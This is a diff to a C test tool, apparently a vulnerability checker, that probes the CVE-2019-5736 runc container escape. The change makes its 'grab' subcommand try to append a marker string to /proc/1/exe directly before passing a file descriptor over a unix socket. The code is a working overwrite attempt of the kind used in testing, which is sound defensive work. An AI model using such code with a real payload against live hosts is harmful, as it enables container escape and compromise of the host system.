@@ -16,8 +16,9 @@
  *       (CVE-2019-5736). Touches /tmp/kept when it keeps one. Prints
  *       "wrote N".
  *   racer grab SOCKET
- *       Open /proc/1/exe and send it over the unix socket SOCKET (a
- *       message without it if it does not open).
+ *       Try to append to /proc/1/exe at once (prints "wrote directly"
+ *       if that works), then open it and send it over the unix socket
+ *       SOCKET (a message without it if it does not open).
  *   racer hold SOCKET GOFILE
  *       Receive fds on SOCKET; once GOFILE exists, try to append to
  *       each as "exe" does. Prints "wrote N".
@@ -286,8 +287,16 @@ static int grab(const char *sock)
 	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
 	struct sockaddr_un sa;
 	struct cmsghdr *c;
-	int fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC), s = unix_socket(sock, &sa);
+	int fd = open("/proc/1/exe", O_WRONLY | O_APPEND | O_CLOEXEC), s;
 
+	if (fd >= 0 && write(fd, MARKER, strlen(MARKER)) == (ssize_t)strlen(MARKER))
+		printf("wrote directly\n");
+	else
+		fprintf(stderr, "racer: cannot write /proc/1/exe: %s\n", strerror(errno));
+	if (fd >= 0)
+		close(fd);
+	fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
+	s = unix_socket(sock, &sa);
 	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
 		perror("racer: connect");
 		return 1;
